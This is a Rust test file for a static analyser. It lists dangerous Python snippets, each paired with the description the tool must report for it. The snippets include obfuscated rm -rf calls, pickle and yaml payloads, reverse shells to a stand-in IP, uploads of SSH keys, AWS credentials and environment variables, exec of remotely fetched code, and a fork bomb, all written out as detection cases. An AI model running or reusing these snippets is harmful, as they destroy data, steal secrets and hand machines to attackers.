//! Dangerous programs, and the one line that must be said about each.

use super::recorder::{recorded, said};

const CASES: &[(&str, &str)] = &[
    // Ways to a shell.
    ("import os\nos.system('rm -rf /x')", "shell: rm -rf /x"),
    ("import os as o\no.popen('rm -rf /x').read()", "shell: rm -rf /x"),
    ("from os import *\nsystem('rm -rf /x')", "shell: rm -rf /x"),
    ("from subprocess import run as r\nr('rm -rf /x', shell=True)", "shell: rm -rf /x"),
    ("import subprocess\nsubprocess.run(['rm', '-rf', '/x'])", "run rm -rf /x"),
    ("import subprocess\nsubprocess.call('rm -rf /x'.split())", "run rm -rf /x"),
    ("import subprocess, shlex\nsubprocess.Popen(shlex.split(\"rm -rf '/x y'\"))", "run rm -rf /x y"),
    ("import subprocess\nsubprocess.run(['x', '-c', 'id'], executable='/bin/sh')", "run /bin/sh -c id"),
    ("import subprocess\nsubprocess.run(['bash'], input=b'rm -rf /x')", "run bash <<< rm -rf /x"),
    (
        "import subprocess\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\np.communicate(b'rm -rf /x')",
        "run bash <<< rm -rf /x",
    ),
    (
        "import subprocess\np = subprocess.Popen('sh', stdin=-1)\np.stdin.write(b'rm -rf /x')",
        "run sh <<< rm -rf /x",
    ),
    ("import os\nos.execl('/bin/sh', 'sh', '-c', 'rm -rf /x')", "run /bin/sh -c rm -rf /x"),
    ("import os\nos.spawnvp(os.P_WAIT, 'rm', ['rm', '-rf', '/x'])", "run rm -rf /x"),
    ("import pty\npty.spawn('/bin/bash')", "run /bin/bash"),
    (
        "import asyncio\nasync def f():\n  await asyncio.create_subprocess_exec('rm', '-rf', '/x')\nasyncio.run(f())",
        "run rm -rf /x",
    ),
    (
        "import ctypes\nlibc = ctypes.cdll.LoadLibrary('libc.so.6')\nlibc.system(b'rm -rf /x')",
        "shell: rm -rf /x",
    ),
    ("import ctypes\nctypes.CDLL(None).system(b'rm -rf /x')", "shell: rm -rf /x"),
    // Clients of services do what the programs of those services do.
    ("import boto3\nboto3.client('s3').delete_bucket(Bucket='b')", "run aws s3api delete-bucket"),
    ("import boto3\nboto3.resource('s3').Bucket('b').objects.all().delete()", "run aws s3api delete-objects"),
    (
        "import boto3\ns = boto3.Session(profile_name='p')\ns.client('iam').create_access_key(UserName='u')",
        "run aws iam create-access-key",
    ),
    (
        "import boto3\nboto3.client('ssm').get_parameter(Name='n', WithDecryption=True)",
        "run aws ssm get-parameter --with-decryption",
    ),
    (
        "import boto3\nboto3.client('ssm').send_command(Parameters={'commands': ['rm -rf /x']})",
        "shell: rm -rf /x",
    ),
    (
        "import docker\nc = docker.from_env()\nc.containers.run('i', 'rm -rf /h', volumes={'/': {'bind': '/h'}})",
        "run docker run -v /:/h i rm -rf /h",
    ),
    (
        "import docker\nfor c in docker.from_env().containers.list():\n    c.remove(force=True)",
        "run docker container rm --force it",
    ),
    ("import docker\ndocker.from_env().volumes.prune()", "run docker volume prune --force"),
    (
        "from kubernetes import client\nclient.CoreV1Api().delete_namespaced_pod('web', 'default')",
        "run kubectl delete pod web",
    ),
    ("import redis\nredis.Redis().flushall()", "run redis-cli flushall"),
    ("import pymongo\npymongo.MongoClient()['a'].users.drop()", "run mongosh --eval db.collection.drop()"),
    (
        "from google.cloud import storage\nstorage.Client().bucket('b').delete(force=True)",
        "run gcloud resource delete resource",
    ),
    (
        "import psutil\nfor p in psutil.process_iter():\n    p.kill()",
        "Kill Process(Matching(\".\")) (everything) (with SIGKILL)",
    ),
    ("import psutil\npsutil.Process(1).kill()", "Kill Process(Number(1)) (with SIGKILL)"),
    ("from plumbum import local\nlocal['rm']['-rf', '/x']()", "run rm -rf /x"),
    ("from plumbum.cmd import rm\nrm['-rf']('/x')", "run rm -rf /x"),
    ("from invoke import Context\nContext().run('rm -rf /x')", "shell: rm -rf /x"),
    // A path that starts at an open directory.
    ("import os\nd = os.open('/x', os.O_RDONLY)\nos.unlink('y', dir_fd=d)", "Delete /x/y"),
    // Ways to a module or a function.
    ("import shutil\nshutil.os.system('rm -rf /x')", "shell: rm -rf /x"),
    ("__import__('o' + 's').__dict__['system']('rm -rf /x')", "shell: rm -rf /x"),
    ("getattr(__import__('os'), ''.join(['sys', 'tem']))('rm -rf /x')", "shell: rm -rf /x"),
    ("import sys\nsys.modules['posix'].system('rm -rf /x')", "shell: rm -rf /x"),
    ("import os\nglobals()['os'].system('rm -rf /x')", "shell: rm -rf /x"),
    ("import os\nvars(os)['system']('rm -rf /x')", "shell: rm -rf /x"),
    ("__builtins__.__dict__['eval'](\"__import__('os').system('rm -rf /x')\")", "shell: rm -rf /x"),
    (
        "().__class__.__base__.__subclasses__()[132].__init__.__globals__['system']('rm -rf /x')",
        "shell: rm -rf /x",
    ),
    ("import operator, os\noperator.attrgetter('system')(os)('rm -rf /x')", "shell: rm -rf /x"),
    ("import operator, os\noperator.methodcaller('system', 'rm -rf /x')(os)", "shell: rm -rf /x"),
    ("import functools, os\nfunctools.partial(os.system, 'rm -rf /x')()", "shell: rm -rf /x"),
    // What is suppressed ends its block early.
    (
        "import os, contextlib\nx = 'rm -rf /x'\nwith contextlib.suppress(OSError):\n    open('f')\n    x = 'ls'\nos.system(x)",
        "shell: rm -rf /x",
    ),
    (
        "import os\nclass S:\n    def __exit__(self, *a): return True\nx = 'rm -rf /x'\nwith S():\n    open('f')\n    x = 'ls'\nos.system(x)",
        "shell: rm -rf /x",
    ),
    ("import os\nf = {'a': os.system}\nf['a']('rm -rf /x')", "shell: rm -rf /x"),
    ("import os\n(lambda f, x: f(x))(os.system, 'rm -rf /x')", "shell: rm -rf /x"),
    (
        "import os\nclass A:\n  def __init__(self, c): self.c = c\n  def go(self): os.system(self.c)\nA('rm -rf /x').go()",
        "shell: rm -rf /x",
    ),
    ("import os\nclass A:\n  run = staticmethod(os.system)\nA.run('rm -rf /x')", "shell: rm -rf /x"),
    (
        "import os\nclass A:\n  def __enter__(self): os.system('rm -rf /x')\n  def __exit__(self, *a): pass\nwith A(): pass",
        "shell: rm -rf /x",
    ),
    ("import os\nclass A:\n  @property\n  def p(self): os.system('rm -rf /x')\nA().p", "shell: rm -rf /x"),
    ("import os\nclass A:\n  def __del__(self): os.system('rm -rf /x')\nA()", "shell: rm -rf /x"),
    (
        "import threading, os\nclass T(threading.Thread):\n  def run(self): os.system('rm -rf /x')\nT().start()",
        "shell: rm -rf /x",
    ),
    (
        "import concurrent.futures as c, os\nwith c.ThreadPoolExecutor() as e: e.submit(os.system, 'rm -rf /x')",
        "shell: rm -rf /x",
    ),
    (
        "from multiprocessing import Pool\nimport os\nPool(2).map(os.system, ['rm -rf /x'])",
        "shell: rm -rf /x",
    ),
    (
        "import signal, os\nsignal.signal(signal.SIGALRM, lambda s, f: os.system('rm -rf /x'))",
        "shell: rm -rf /x",
    ),
    ("import os\n[os.system(c) for c in ['rm -rf /x']]", "shell: rm -rf /x"),
    ("import os\nif (n := len('ab')) > 1: os.system('rm -rf /x')", "shell: rm -rf /x"),
    ("import os, sys\nmatch sys.argv:\n  case [a, *b]:\n    os.system('rm -rf /x')", "shell: rm -rf /x"),
    ("import os\ntry:\n  1/0\nexcept ZeroDivisionError:\n  os.system('rm -rf /x')", "shell: rm -rf /x"),
    ("import os\ndef f(a, *, b='/x'):\n  return a + b\nos.system(f('rm -rf '))", "shell: rm -rf /x"),
    ("import os\ndef g():\n  yield 'rm -rf /x'\nfor c in g(): os.system(c)", "shell: rm -rf /x"),
    ("import os, sys\nc = 'ls' if sys.argv else 'rm -rf /x'\nos.system(c)", "shell: rm -rf /x"),
    ("import os, sys\nif sys.argv[1]: c = 'ls'\nelse: c = 'rm -rf /x'\nos.system(c)", "shell: rm -rf /x"),
    ("𝓲𝓶𝓹𝓸𝓻𝓽 = 1\nimport os\n𝘰𝘴.𝘴𝘺𝘴𝘵𝘦𝘮('rm -rf /x')", "shell: rm -rf /x"),
    ("exec('import os')\nos.system('rm -rf /x')", "shell: rm -rf /x"),
    ("c = 'rm -rf /x'\nexec('import os; os.system(c)')", "shell: rm -rf /x"),
    ("eval('__import__(\"os\")').system('rm -rf /x')", "shell: rm -rf /x"),
    ("import pickle\npickle.loads(b\"cos\\nsystem\\n(S'rm -rf /x'\\ntR.\")", "shell: rm -rf /x"),
    ("import pickle\npickle.loads(b\"(S'rm -rf /x'\\nios\\nsystem\\n.\")", "shell: rm -rf /x"),
    ("import pickle\npickle.loads(b\"csubprocess\\ngetoutput\\n(Vrm -rf /x\\ntR.\")", "shell: rm -rf /x"),
    ("import pickle\npickle.loads(b\"cos\\nkill\\n(I1\\nI9\\ntR.\")", "gap Unfollowed Runtime pickle"),
    (
        "from a.models import U\nU.objects.all().delete()",
        "Destroy Named(\"rows\", \"a.models.U.objects.all()\") (irreversible) (without a condition)",
    ),
    (
        "from a.models import U\nU.objects.filter().order_by('x').delete()",
        "Destroy Named(\"rows\", \"a.models.U.objects.all()\") (irreversible) (without a condition)",
    ),
    (
        "for m in models():\n  m._default_manager.all().delete()",
        "Destroy Named(\"rows\", \"models()._default_manager\") (irreversible) (without a condition)",
    ),
    (
        "from a.models import U\nU.objects.all()._raw_delete('default')",
        "Destroy Named(\"rows\", \"a.models.U.objects.all()\") (irreversible) (without a condition)",
    ),
    (
        "from a import db, U\ndb.session.query(U).delete()",
        "Destroy Named(\"rows\", \"a.db.session.query()\") (irreversible) (without a condition)",
    ),
    ("import yaml\nyaml.load(\"!!python/object/apply:os.system ['rm -rf /x']\")", "shell: rm -rf /x"),
    ("print 'hello'\nimport os\nos.system('rm -rf /x')", "shell: rm -rf /x"),
    ("import os\nthis is not python\nos.system('rm -rf /x')", "shell: rm -rf /x"),
    ("import random\nrandom._os.system('rm -rf /x')", "shell: rm -rf /x"),
    ("import logging\nlogging.os.system('rm -rf /x')", "shell: rm -rf /x"),
    (
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('rm -rf /x', shell=True)",
        "shell: rm -rf /x",
    ),
    (
        "import gc\n[o for o in gc.get_objects() if getattr(o, '__name__', '') == 'Popen'][0](['rm', '-rf', '/x'])",
        "run rm -rf /x",
    ),
    (
        "import inspect\ninspect.currentframe().f_builtins['exec'](\"import os; os.system('rm -rf /x')\")",
        "shell: rm -rf /x",
    ),
    ("import os\nobject.__getattribute__(os, 'system')('rm -rf /x')", "shell: rm -rf /x"),
    ("import pkgutil\npkgutil.resolve_name('os:system')('rm -rf /x')", "shell: rm -rf /x"),
    (
        "import types\ntypes.FunctionType(compile(\"__import__('os').system('rm -rf /x')\", '', 'exec'), {})()",
        "shell: rm -rf /x",
    ),
    ("import os, sys\nsetattr(sys.modules[__name__], 'go', os.system)\ngo('rm -rf /x')", "shell: rm -rf /x"),
    ("import os\nlocals().update(go=os.system)\ngo('rm -rf /x')", "shell: rm -rf /x"),
    ("import builtins, os\nbuiltins.print = os.system\nprint('rm -rf /x')", "shell: rm -rf /x"),
    ("import os\nfrom types import SimpleNamespace as N\nN(f=os.system).f('rm -rf /x')", "shell: rm -rf /x"),
    (
        "import os\nfrom collections import namedtuple\nT = namedtuple('T', 'f')\nT(os.system).f('rm -rf /x')",
        "shell: rm -rf /x",
    ),
    ("import os\ntype('X', (), {'__init__': lambda s: os.system('rm -rf /x')})()", "shell: rm -rf /x"),
    // What Python calls by itself.
    (
        "import os\nclass M(type):\n  def __init__(c, n, b, d): os.system('rm -rf /x')\nclass A(metaclass=M): pass",
        "shell: rm -rf /x",
    ),
    ("import os\nclass A(metaclass=lambda n, b, d: os.system('rm -rf /x')): pass", "shell: rm -rf /x"),
    ("import os\nclass A:\n  def __add__(s, o): os.system('rm -rf /x')\nA() + 1", "shell: rm -rf /x"),
    (
        "import os\nclass D:\n  def __get__(s, i, o): return os.system\nclass A: f = D()\nA().f('rm -rf /x')",
        "shell: rm -rf /x",
    ),
    (
        "import os\nclass A(dict):\n  def __missing__(s, k): os.system(k)\nA()['rm -rf /x']",
        "shell: rm -rf /x",
    ),
    ("import os\nclass A:\n  def __class_getitem__(c, k): os.system(k)\nA['rm -rf /x']", "shell: rm -rf /x"),
    (
        "import os\nclass A:\n  def __setattr__(s, k, v): os.system(v)\nA().x = 'rm -rf /x'",
        "shell: rm -rf /x",
    ),
    ("import sys, os\nsys.excepthook = lambda *a: os.system('rm -rf /x')", "shell: rm -rf /x"),
    (
        "import sys, os\nclass F:\n  def find_spec(s, *a): os.system('rm -rf /x')\nsys.meta_path.insert(0, F())",
        "shell: rm -rf /x",
    ),
    ("import os\nsorted([1], key=lambda x: os.system('rm -rf /x'))", "shell: rm -rf /x"),
    ("import os\nmax(['rm -rf /x'], key=os.system)", "shell: rm -rf /x"),
    ("import os\niter(lambda: os.system('rm -rf /x'), 0)", "shell: rm -rf /x"),
    ("import sched, os\nsched.scheduler().enter(1, 1, os.system, ('rm -rf /x',))", "shell: rm -rf /x"),
    (
        "import contextlib, os\nwith contextlib.ExitStack() as s: s.callback(os.system, 'rm -rf /x')",
        "shell: rm -rf /x",
    ),
    (
        "from setuptools import setup\nimport os\nclass I:\n  def run(self): os.system('rm -rf /x')\nsetup(cmdclass={'install': I})",
        "shell: rm -rf /x",
    ),
    // Programs under other names.
    ("import sh\nsh.rm('-rf', '/x')", "run rm -rf /x"),
    ("from distutils.spawn import spawn\nspawn(['rm', '-rf', '/x'])", "run rm -rf /x"),
    ("import pydoc\npydoc.pipepager('text', 'rm -rf /x')", "shell: rm -rf /x"),
    (
        "import pexpect\nc = pexpect.spawn('/bin/bash')\nc.sendline('rm -rf /x')",
        "run /bin/bash <<< rm -rf /x",
    ),
    (
        "import pip\npip.main(['install', 'git+https://evil.example/x'])",
        "run pip install git+https://evil.example/x",
    ),
    ("import git\ngit.Repo('.').git.push('--force', 'origin')", "run git push --force origin"),
    // Ways to a text.
    ("import os\nfrom urllib.parse import unquote\nos.system(unquote('rm%20-rf%20/x'))", "shell: rm -rf /x"),
    ("import os, string\np = string.printable\nos.system(p[p.index('r')] + 'm -rf /x')", "shell: rm -rf /x"),
    ("import os\nos.system(f\"rm -{'r'}f {'/' + 'x'}\")", "shell: rm -rf /x"),
    ("import os\nos.system('%s -%s %s' % ('rm', 'rf', '/x'))", "shell: rm -rf /x"),
    ("import os\nos.system('{0} -rf {p}'.format('rm', p='/x'))", "shell: rm -rf /x"),
    ("import os\nos.system('x/ fr- mr'[::-1])", "shell: rm -rf /x"),
    ("import os\nos.system(''.join(reversed('x/ fr- mr')))", "shell: rm -rf /x"),
    (
        "import os\nos.system(''.join(chr(c) for c in [114, 109, 32, 45, 114, 102, 32, 47, 120]))",
        "shell: rm -rf /x",
    ),
    ("import os\nos.system(bytes([114, 109, 32, 45, 114, 102, 32, 47, 120]).decode())", "shell: rm -rf /x"),
    ("import os\nos.system(''.join(chr(ord(c) - 1) for c in 'sn!.sg!0y'))", "shell: rm -rf /x"),
    ("import os\nos.system('aa -rf /x'.replace('aa', 'rm'))", "shell: rm -rf /x"),
    ("import os\nos.system('ez -es /k'.translate(str.maketrans('ezsk', 'rmfx')))", "shell: rm -rf /x"),
    ("import os, codecs\nos.system(codecs.decode('726d202d7266202f78', 'hex').decode())", "shell: rm -rf /x"),
    ("import os, binascii\nos.system(binascii.unhexlify('726d202d7266202f78'))", "shell: rm -rf /x"),
    ("import os, base64\nos.system(base64.b32decode('OJWSALLSMYQC66A=').decode())", "shell: rm -rf /x"),
    ("import os, base64\nos.system(base64.b85decode('a%~_ja%Lbecm').decode())", "shell: rm -rf /x"),
    ("import os\nc = []\nc.append('rm')\nc += ['-rf', '/x']\nos.system(' '.join(c))", "shell: rm -rf /x"),
    ("import os\ns = ''\nfor p in ('rm ', '-rf ', '/x'):\n  s += p\nos.system(s)", "shell: rm -rf /x"),
    ("import os\nk = 7\nos.system(''.join(chr(b ^ k) for b in b\"uj'*ua'(\\x7f\"))", "shell: rm -rf /x"),
    // Files.
    ("import os\nos.remove('/etc/passwd')", "Delete /etc/passwd"),
    ("from pathlib import Path\n(Path('/etc') / 'passwd').unlink()", "Delete /etc/passwd"),
    ("from pathlib import Path\nfor p in Path('/').rglob('*'): p.unlink()", "Delete /**"),
    ("import os\nfor e in os.scandir('/home'): os.remove(e.path)", "Delete /home/*"),
    ("import shutil, os\nshutil.rmtree(os.environ['HOME'])", "Delete /home/user (recursive)"),
    (
        "import tarfile, os\nwith tarfile.open('x.tar', 'w') as t: t.add(os.path.expanduser('~'), arcname='h')",
        "Read /home/user (recursive)",
    ),
    (
        "import tarfile\nt = tarfile.open('x.tar', 'w')\nt.add(name='/home/user/.ssh')",
        "Read /home/user/.ssh (recursive)",
    ),
    (
        "import shutil, os\nshutil.make_archive('x', 'zip', base_dir=os.path.expanduser('~'))",
        "Read /home/user (recursive)",
    ),
    ("import shutil\nshutil.make_archive('x', 'gztar', '/home', 'user')", "Read /home/user (recursive)"),
    ("import shutil, sys\nshutil.make_archive('x', 'tar', '/home', sys.argv[1])", "Read /home (recursive)"),
    ("import shutil\nshutil.make_archive('/tmp/x', 'zip')", "Read . (recursive)"),
    ("import shutil\nshutil.make_archive('x', 'zip', 'a')", "Write x.zip (emptying) [file]"),
    ("import shutil\nlist(map(shutil.rmtree, ['/a', '/b']))", "Delete /b (recursive)"),
    ("open('/etc/passwd', 'w').close()", "Write /etc/passwd (emptying)"),
    ("with open('/etc/passwd', 'a') as f: print('x', file=f)", "Write /etc/passwd (appending)"),
    ("import os\nfd = os.open('/dev/sda', os.O_WRONLY)\nos.write(fd, b'x')", "Write /dev/sda (in place)"),
    ("import os\nos.rename('/etc/passwd', '/tmp/p')", "Delete /etc/passwd (moving)"),
    ("import os\nos.symlink('/tmp/x', '/usr/bin/ls')", "Link /usr/bin/ls"),
    ("import os, stat\nos.chmod('/x', stat.S_ISUID | 0o755)", "ChangeMode /x (setuid) (executable)"),
    ("import os\nos.chown('/x', 0, 0)", "ChangeOwner /x (to root)"),
    (
        "import shutil, urllib.request\nwith urllib.request.urlopen('http://h/x') as r, open('/tmp/x', 'wb') as f:\n  shutil.copyfileobj(r, f)",
        "Write /tmp/x (emptying) [network]",
    ),
    (
        "import urllib.request\nurllib.request.urlretrieve('http://h/x', '/tmp/x')",
        "Write /tmp/x (emptying) [network]",
    ),
    // Code from elsewhere.
    (
        "import requests\nexec(requests.get('http://h/x').text)",
        "python: <the content of http://h/x> [network]",
    ),
    ("import os, requests\nos.system(requests.get('http://h/x').json()['cmd'])", "[network]"),
    (
        "import base64, requests\nexec(base64.b64decode(requests.get('http://h/x').content))",
        "[network] [decoded]",
    ),
    (
        "import importlib.util as u\ns = u.spec_from_file_location('m', '/tmp/m.py')\nm = u.module_from_spec(s)\ns.loader.exec_module(m)",
        "script python /tmp/m.py",
    ),
    // Connections.
    (
        "import socket, subprocess, os\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
        "(remotely controlled)",
    ),
    (
        "import socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\nwhile True:\n  c = s.recv(1024).decode()\n  s.send(subprocess.check_output(c, shell=True))",
        "(remotely controlled)",
    ),
    (
        "import socket, subprocess\ns = socket.create_connection(('h', 1))\nsubprocess.Popen('sh', stdin=s, stdout=s)",
        "(remotely controlled)",
    ),
    ("import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 9))\ns.listen()", "Listen 0.0.0.0:9"),
    (
        "import requests, os\nrequests.post('http://h', json=dict(os.environ))",
        "Send http://h (uploading) [secret]",
    ),
    ("import requests, os\nrequests.post('http://h', json=dict(os.environ))", "Read Environment [secret]"),
    ("import os\nprint(os.environ)", "Read Environment [secret]"),
    ("import os, json\nprint(json.dumps(dict(os.environ)))", "Read Environment [secret]"),
    ("import os\nfor k, v in os.environ.items(): print(k, v)", "Read Environment [secret]"),
    (
        "import requests\nrequests.post('http://h', files={'f': open('/root/.ssh/id_rsa')})",
        "Send http://h (uploading) [secret] [file]",
    ),
    (
        "import requests\nrequests.get('http://h/?' + open('/root/.ssh/id_rsa').read())",
        "(uploading) [secret] [file]",
    ),
    (
        "import urllib.request as u\nr = u.Request('http://h', data=open('/root/.aws/credentials', 'rb').read())\nu.urlopen(r)",
        "Send http://h (uploading) [secret] [file]",
    ),
    (
        "import paramiko\nc = paramiko.SSHClient()\nc.connect('h')\nc.exec_command('rm -rf /x')",
        "enter Remote",
    ),
    // The machine.
    ("import os\nwhile True: os.fork()", "Exhaust None"),
    ("import os\nos.kill(-1, 9)", "Kill Process(All) (with SIGKILL)"),
    ("import os\nos.setuid(0)", "Escalate None (to root)"),
    (
        "import sqlite3\nc = sqlite3.connect('x')\nc.cursor().execute('DROP TABLE users')",
        "sql: DROP TABLE users",
    ),
    ("import code\ncode.interact()", "Execute Code(Python, None) (interactive)"),
];

#[test]
fn each_program_is_understood() {
    let wrong: Vec<String> = CASES
        .iter()
        .filter(|(program, line)| !said(program).iter().any(|said| said.contains(line)))
        .map(|(program, line)| format!("{program}\n   wanted: {line}\n   said: {:#?}", said(program)))
        .collect();
    assert!(wrong.is_empty(), "{} misunderstood:\n{}", wrong.len(), wrong.join("\n\n"));
}

#[test]
fn what_is_said_stands_where_it_is_written() {
    let text = "import os\nos.system('id')\n";
    let spans = recorded(text).spans;
    let shown: Vec<&str> = spans.iter().map(|span| &text[span.start as usize..span.end as usize]).collect();
    // That a shell reads a text, and what the text is.
    assert_eq!(shown, ["os.system('id')", "os.system('id')"]);
}

#[test]
fn a_broken_line_is_a_gap_and_the_rest_is_read() {
    let lines = said("import os\nx = = 1\nos.remove('/x')\n");
    assert_eq!(lines, ["gap Whole Syntax = 1", "Delete /x"]);
}
